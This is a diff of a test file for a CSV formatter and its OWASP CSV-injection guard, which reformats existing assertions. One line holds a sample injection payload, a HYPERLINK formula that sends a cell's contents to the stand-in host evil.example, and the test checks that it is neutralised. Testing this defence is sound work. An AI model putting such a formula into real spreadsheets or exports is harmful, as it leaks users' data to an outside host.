@@ -11,7 +11,12 @@ describe('formatCsv (RFC 4180)', () => {
   });
 
   it('ends every record with CRLF', () => {
-    expect(formatCsv([['name', 'note'], ['Acme', 'FHA, VA']])).toBe('name,note\r\nAcme,"FHA, VA"\r\n');
+    expect(
+      formatCsv([
+        ['name', 'note'],
+        ['Acme', 'FHA, VA'],
+      ]),
+    ).toBe('name,note\r\nAcme,"FHA, VA"\r\n');
   });
 });
 
@@ -61,12 +66,20 @@ describe('formula guard (OWASP CSV injection)', () => {
 
   it("writes a cell that starts with =, +, -, @, tab or CR behind a ' so a spreadsheet shows it as text", () => {
     expect(formatCsvField(formula)).toBe('"\'=HYPERLINK(""https://evil.example/?d=""&B2,""Click me"")"');
-    expect(['=1+2', '+1 555 0100', '-2+3', '@SUM(A1)', '\t=1', '\r=1'].map(neutraliseFormula)).toEqual(["'=1+2", "'+1 555 0100", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1"]);
+    expect(['=1+2', '+1 555 0100', '-2+3', '@SUM(A1)', '\t=1', '\r=1'].map(neutraliseFormula)).toEqual([
+      "'=1+2",
+      "'+1 555 0100",
+      "'-2+3",
+      "'@SUM(A1)",
+      "'\t=1",
+      "'\r=1",
+    ]);
     expect(formatCsv([['name'], ['=1+2']])).toBe("name\r\n'=1+2\r\n");
   });
 
   it('leaves every other cell as it is', () => {
-    for (const value of ['Acme', '', ' =spaced', "'quoted", "it's", 'a=b', '1-2', 'x@y.com', '4.5']) expect(neutraliseFormula(value)).toBe(value);
+    for (const value of ['Acme', '', ' =spaced', "'quoted", "it's", 'a=b', '1-2', 'x@y.com', '4.5'])
+      expect(neutraliseFormula(value)).toBe(value);
   });
 
   it("reads a guarded cell back to the original text, and adds one more ' to a text that already looked guarded", () => {
